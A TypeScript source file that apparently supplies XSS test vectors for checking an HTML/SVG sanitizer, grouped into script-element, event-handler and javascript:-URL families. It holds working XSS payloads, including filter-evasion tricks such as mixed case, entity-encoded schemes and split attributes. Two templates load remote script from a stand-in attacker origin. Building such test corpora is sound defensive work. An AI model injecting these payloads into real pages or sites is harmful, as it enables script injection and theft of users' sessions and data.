import { decimalEntities, hexEntities, js, SHAPE, SVG_OPEN, type Template } from './payloadParts.ts';
import type { XssFamily } from './XssVector.ts';
import { XSS_EVIL_ORIGIN } from './xssTargets.ts';

/** Payloads that run script directly: script elements, event handlers, `javascript:` URLs. */
export const SCRIPT_PAYLOADS: Record<
  Extract<XssFamily, 'script' | 'event-handler' | 'javascript-url'>,
  Record<string, Template>
> = {
  script: {
    'script-inline': (id) => `${SVG_OPEN}<script>${js(id)}</script>${SHAPE}</svg>`,
    'script-ecmascript-type': (id) => `${SVG_OPEN}<script type="text/ecmascript">${js(id)}</script></svg>`,
    'script-mixed-case': (id) => `<svg><ScRiPt>${js(id)}</ScRiPt></svg>`,
    'script-bare-html': (id) => `<script>${js(id)}</script>`,
    'script-src-remote': (id) => `<svg><script src="${XSS_EVIL_ORIGIN}/${id}.js"></script></svg>`,
    'script-href-remote': (id) => `${SVG_OPEN}<script href="${XSS_EVIL_ORIGIN}/${id}.js"/></svg>`,
    'script-xlink-href-data': (id) =>
      `${SVG_OPEN}<script xlink:href="data:text/javascript,${encodeURIComponent(js(id))}"/></svg>`,
    'script-src-data-html': (id) => `<script src="data:text/javascript,${js(id)}"></script><svg/>`,
    'script-entity-body': (id) => `<svg><script>${decimalEntities(js(id))}</script></svg>`,
    'script-in-desc': (id) => `<svg><desc><script>${js(id)}</script></desc></svg>`,
    'script-in-title': (id) => `<svg><title><script>${js(id)}</script></title></svg>`,
    'script-in-defs-use': (id) =>
      `${SVG_OPEN}<defs><g id="s"><script>${js(id)}</script></g></defs><use href="#s"/></svg>`,
    'script-unclosed': (id) => `<svg><script>${js(id)}<!--</svg>`,
    'script-after-svg': (id) => `<svg>${SHAPE}</svg><script>${js(id)}</script>`,
    'script-nested-svg': (id) => `<svg><svg><g><script>${js(id)}</script></g></svg></svg>`,
    'script-alert-dialog': () => '<svg><script>alert(document.domain)</script></svg>',
    'script-confirm-dialog': () => '<svg><script>confirm(1)</script></svg>',
    'script-prompt-dialog': () => '<svg><script>prompt(1)</script></svg>',
  },
  'event-handler': {
    'handler-img-onerror': (id) => `<img src=x onerror="${js(id)}">`,
    'handler-svg-onload-slash': (id) => `<svg/onload=${js(id)}>`,
    'handler-svg-onload-uppercase': (id) => `<svg ONLOAD="${js(id)}">${SHAPE}</svg>`,
    'handler-animate-onbegin': (id) =>
      `${SVG_OPEN}<animate attributeName="x" from="0" to="1" dur="10ms" onbegin="${js(id)}"/></svg>`,
    'handler-animate-onend': (id) =>
      `${SVG_OPEN}<rect width="1" height="1"><animate attributeName="x" to="1" dur="1ms" onend="${js(id)}"/></rect></svg>`,
    'handler-set-onbegin': (id) => `${SVG_OPEN}<set attributeName="x" to="1" onbegin="${js(id)}"/></svg>`,
    'handler-autofocus-onfocus': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" tabindex="0" autofocus onfocus="${js(id)}"/></svg>`,
    'handler-details-ontoggle': (id) => `<details open ontoggle="${js(id)}"><summary>x</summary></details>`,
    'handler-body-onload': (id) => `<body onload="${js(id)}"><svg/></body>`,
    'handler-input-autofocus': (id) => `<input autofocus onfocus="${js(id)}">`,
    'handler-video-source-onerror': (id) => `<video><source onerror="${js(id)}"></video>`,
    'handler-iframe-onload': (id) => `<iframe onload="${js(id)}"></iframe>`,
    'handler-style-onload': (id) => `<svg><style onload="${js(id)}"></style></svg>`,
    'handler-animation-start': (id) =>
      `<style>@keyframes okx{from{opacity:0}to{opacity:1}}</style>${SVG_OPEN}<rect width="9" height="9" style="animation:okx 1ms" onanimationstart="${js(id)}"/></svg>`,
    'handler-entity-encoded-value': (id) => `<svg onload="${hexEntities(js(id))}">${SHAPE}</svg>`,
    'handler-newline-separated': (id) => `<svg\nonload\n=\n"${js(id)}">${SHAPE}</svg>`,
    'handler-marquee-onstart': (id) => `<marquee onstart="${js(id)}">x</marquee>`,
    'handler-image-onerror': (id) => `${SVG_OPEN}<image href="x" onerror="${js(id)}"/></svg>`,
    'handler-alert-dialog': () =>
      `${SVG_OPEN}<animate attributeName="x" dur="1ms" onbegin="alert(1)"/></svg>`,
  },
  'javascript-url': {
    'js-url-a-href': (id) => `${SVG_OPEN}<a href="javascript:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-a-xlink-href': (id) =>
      `${SVG_OPEN}<a xlink:href="javascript:${js(id)}"><text y="12">x</text></a></svg>`,
    'js-url-leading-space': (id) => `${SVG_OPEN}<a href="  javascript:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-tab-entity': (id) => `${SVG_OPEN}<a href="java&#x09;script:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-mixed-case': (id) => `${SVG_OPEN}<a href="JaVaScRiPt:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-entity-scheme': (id) => `${SVG_OPEN}<a href="&#106;avascript:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-colon-entity': (id) => `${SVG_OPEN}<a href="javascript&colon;${js(id)}">${SHAPE}</a></svg>`,
    'js-url-html-anchor': (id) => `<a href="javascript:${js(id)}">Activate</a>`,
    'js-url-vbscript': () => `${SVG_OPEN}<a href="vbscript:msgbox(1)">${SHAPE}</a></svg>`,
    'js-url-embed-src': (id) => `<svg><embed src="javascript:${js(id)}"/></svg>`,
    'js-url-object-data': (id) => `<svg><object data="javascript:${js(id)}"></object></svg>`,
    'js-url-iframe-src': (id) => `<iframe src="javascript:${js(id)}"></iframe>`,
    'js-url-form-action': (id) => `<form action="javascript:${js(id)}"><button>Go</button></form>`,
    'js-url-feimage': (id) =>
      `${SVG_OPEN}<filter id="f"><feImage href="javascript:${js(id)}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'js-url-use-href': (id) => `${SVG_OPEN}<use href="javascript:${js(id)}"/></svg>`,
    'js-url-meta-refresh': (id) => `<meta http-equiv="refresh" content="0;url=javascript:${js(id)}">`,
  },
};
